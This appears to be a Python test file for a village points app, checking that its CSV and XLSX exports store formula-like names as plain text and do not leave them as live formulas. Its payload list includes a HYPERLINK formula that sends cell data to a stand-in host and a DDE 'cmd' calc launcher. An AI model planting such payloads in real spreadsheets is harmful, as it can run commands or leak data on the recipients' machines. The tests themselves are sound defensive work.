"""Exports write people's text as text, never as a formula (issue 14, finding 14).

A resident, a village or an undo reason named like a formula would run when a host or a
county officer opens the export. Each exporter is tried with such names; the file is opened
and the cell's value and type are checked."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from points import county, events, ledger
from points.models import EntryKind, Role
from points.sheets import csv_row, xlsx_row
from tests.eventutil import make_event, make_rule

FORMULAS = [
    '=HYPERLINK("http://x.example/?d="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_attendance_exports_keep_a_formula_like_name_as_text(
    client, session, village, make_user, make_resident, login, fixed_clock, name
):
    rule = make_rule(session, village, points=5)
    event = make_event(session, village, rule)
    events.open_event(session, event, by_id=None)
    resident = make_resident(village, name=name)
    result = events.check_in(session, event=event, resident=resident, method="manual", by_id=None)
    events.undo_checkin(session, attendance=result.attendance, reason="=1+1", by_id=None)
    session.commit()
    login(make_user(village, roles=(Role.HOST,)))

    r = client.get(f"/host/events/{event.id}/attendance.xlsx")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.data)).active
    cell = sheet.cell(2, 1)
    assert cell.value == resident.name  # as stored (the name is trimmed of white space)
    assert cell.data_type == "s"  # a string, not "f" (a formula)
    assert sheet.cell(2, 9).value == "=1+1" and sheet.cell(2, 9).data_type == "s"
    assert sheet.cell(2, 8).value == 0 and sheet.cell(2, 8).data_type == "n"  # undone

    r = client.get(f"/host/events/{event.id}/attendance.csv")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + resident.name
    assert rows[1][8] == "'=1+1"
    assert rows[1][7] == "0"


def test_the_county_export_keeps_a_formula_like_village_name_as_text(
    client, session, login, make_village, make_household, fixed_clock
):
    bad = make_village("x1", name='=HYPERLINK("http://x.example","村")')
    c = county.create_county(session, code="xian", name="@某县")
    county.attach_village(session, c, bad)
    ledger.post(session, household_id=make_household(bad, "1").id, amount=5, kind=EntryKind.AWARD)
    officer = county.create_officer(
        session, county=c, username="xian", password="secret-pass-1", full_name="县农业农村局"
    )
    session.commit()
    login(officer)
    r = client.get("/county/export.xlsx?month=2026-11")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.data)).active
    assert sheet.cell(1, 1).value == "@某县 2026-11" and sheet.cell(1, 1).data_type == "s"
    assert sheet.cell(3, 2).value == '=HYPERLINK("http://x.example","村")'
    assert sheet.cell(3, 2).data_type == "s"
    assert sheet.cell(3, 5).value == 5 and sheet.cell(3, 5).data_type == "n"


def test_the_shared_helpers_leave_numbers_and_plain_text_alone():
    from openpyxl import Workbook

    assert csv_row(["张三", -5, 2.5, "", None, "-5", "a=b"]) == [
        "张三",
        -5,
        2.5,
        "",
        None,
        "'-5",
        "a=b",
    ]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, ["=1", -5, "控制\x07字符", None]))
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(out).active.iter_rows())
    assert [(c.value, c.data_type) for c in row[:3]] == [("=1", "s"), (-5, "n"), ("控制字符", "s")]
